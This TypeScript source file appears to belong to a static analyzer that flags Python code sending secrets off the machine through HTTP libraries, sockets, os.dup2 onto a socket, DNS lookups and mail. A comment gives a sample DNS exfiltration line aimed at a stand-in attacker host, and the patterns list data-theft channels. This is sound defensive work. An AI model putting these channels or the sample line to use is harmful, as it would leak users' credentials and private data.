// Python's network calls: downloads (urlretrieve, requests, httpx,
// urllib, http.client), what a request sends (a secret in the address or the
// body), sockets (where they connect, what they send, os.dup2 onto one) and
// mail. Apart because this is where secrets leave the computer.
import type { Node } from 'web-tree-sitter';
import { hostOf, isLoopback, literal, NOTHING, shown, union, withStep, type Value } from './facts.js';
import { place } from './flow.js';
import type { PythonCall, PythonReader } from './python-reader.js';

const HTTP_ROOTS = /^(?:requests|httpx|urllib3|aiohttp|grequests|treq)(?:\.[\w]+)*$/;
const HTTP_METHODS = /\.(?:get|post|put|patch|delete|head|options|request|stream|urlopen)$/;

/** Downloads, and what a request sends. */
export function downloadCall(r: PythonReader, c: PythonCall): Value | undefined {
  const { node, positional, positionalNodes, kw, receiver, ref, at, arg0 } = c;
  if (ref === 'urllib.request.urlretrieve' || ref === 'urllib.urlretrieve' || ref === 'urlretrieve' || ref === 'wget.download') {
    const url = arg0;
    const target = positional[1] ?? kw.get('filename') ?? kw.get('out');
    const fetched = withStep(NOTHING, { kind: 'download', offset: node.startIndex, what: `downloads ${url.exact || url.text !== '*' ? shown(url.text, 100) : 'from an address built at run time'}` });
    if (target) {
      r.f.write({ ...at, path: target.text, value: fetched });
      const targetNode = positionalNodes[1];
      if (targetNode?.type === 'identifier') r.f.vars.set(targetNode.text, union(target, fetched));
    }
    return fetched;
  }
  if (/^(?:requests|httpx|aiohttp)\.(?:Session|Client|AsyncClient|ClientSession|session)$/.test(ref)) return { ...NOTHING, ref: ref.split('.')[0]! };
  const http = (HTTP_ROOTS.test(ref) && (HTTP_METHODS.test(ref) || /^(?:requests|httpx)$/.test(ref))) || /^(?:urllib\.request\.urlopen|urllib2\.urlopen|urlopen|urllib\.request\.Request|Request)$/.test(ref);
  if (http) {
    const url = kw.get('url') ?? arg0;
    const sends = /\.(?:post|put|patch)$/.test(ref) ? [positional[1]] : [];
    const payload = union(url, ...sends.filter((v): v is Value => v !== undefined), ...['data', 'json', 'params', 'files', 'content', 'body'].map((k) => kw.get(k) ?? NOTHING));
    if (/Request$/.test(ref)) return { ...payload, text: url.text, ref: 'urllib.request.Request' };
    send(r, node, /\.(?:post)$/.test(ref) || kw.has('data') || kw.has('json') ? 'POSTs' : /\.put$/.test(ref) ? 'PUTs' : 'sends it in a request', url.text, payload);
    return withStep(NOTHING, { kind: 'download', offset: node.startIndex, what: `downloads ${url.text !== '*' ? shown(url.text, 100) : 'from an address built at run time'}` });
  }
  if (/^http\.client\.HTTPS?Connection$|^HTTPS?Connection$/.test(ref)) return { ...literal(arg0.text), ref: 'http.client.conn' };
  if (ref === 'http.client.conn.request') {
    send(r, node, positional[0]?.text === 'POST' ? 'POSTs' : 'sends it in a request', `//${receiver.text}${positional[1]?.text ?? ''}`, union(positional[1] ?? NOTHING, positional[2] ?? NOTHING, kw.get('body') ?? NOTHING));
    return NOTHING;
  }
  if (ref === 'http.client.conn.getresponse') return withStep(NOTHING, { kind: 'download', offset: node.startIndex, what: `downloads from ${receiver.text}` });
  return undefined;
}

/** Sockets and mail. */
export function socketCall(r: PythonReader, c: PythonCall): Value | undefined {
  const { node, positional, all, receiver, ref, method, at, arg0 } = c;
  if (ref === 'socket.socket' || ref === 'socket.create_connection' || ref === 'socket.fromfd' || ref === 'ssl.wrap_socket') {
    if (ref === 'socket.create_connection') r.sockets.host = arg0.items?.[0]?.text;
    return withStep({ ...NOTHING, ref: 'socket.socket' }, { kind: 'socket', offset: node.startIndex, what: 'opens a network socket' });
  }
  if (ref === 'socket.socket.connect' || ref === 'socket.socket.connect_ex') {
    r.sockets.host = arg0.items?.[0]?.text ?? r.sockets.host;
    return NOTHING;
  }
  if (/^socket\.socket\.(?:send|sendall|sendto|sendfile)$/.test(ref)) {
    const host = method === 'sendto' ? positional[1]?.items?.[0]?.text : r.sockets.host;
    send(r, node, 'sends it over a socket', host ? `//${host}` : '*', union(arg0));
    return NOTHING;
  }
  if (ref === 'os.dup2' && positional[0]?.steps.some((s) => s.kind === 'socket')) {
    r.sockets.dup ??= at;
    return NOTHING;
  }
  // A name looked up carries what it is built from to the name servers: `gethostbyname(secret + '.attacker.example')`.
  if (/^socket\.(?:gethostbyname|gethostbyname_ex|getaddrinfo)$|^dns\.resolver\.(?:resolve|query)$|^dns\.resolver\.Resolver\.(?:resolve|query)$/.test(ref)) {
    send(r, node, 'sends it inside a DNS name', `//${arg0.text}`, arg0);
    return NOTHING;
  }
  if (/^smtplib\.SMTP(?:_SSL)?$/.test(ref)) return { ...literal(arg0.text), ref: 'smtplib.conn' };
  if (/^smtplib\.conn\.(?:sendmail|send_message)$/.test(ref)) {
    send(r, node, 'mails it', `//${receiver.text}`, all);
    return NOTHING;
  }
  return undefined;
}

function send(r: PythonReader, node: Node, verb: string, url: string, payload: Value): void {
  if (!payload.steps.some((s) => s.kind === 'secret' || s.kind === 'environment')) return;
  const host = hostOf(url);
  if (isLoopback(host)) return;
  r.f.facts.sends.push({ ...place(node), verb, ...(host ? { host } : {}), payload });
}
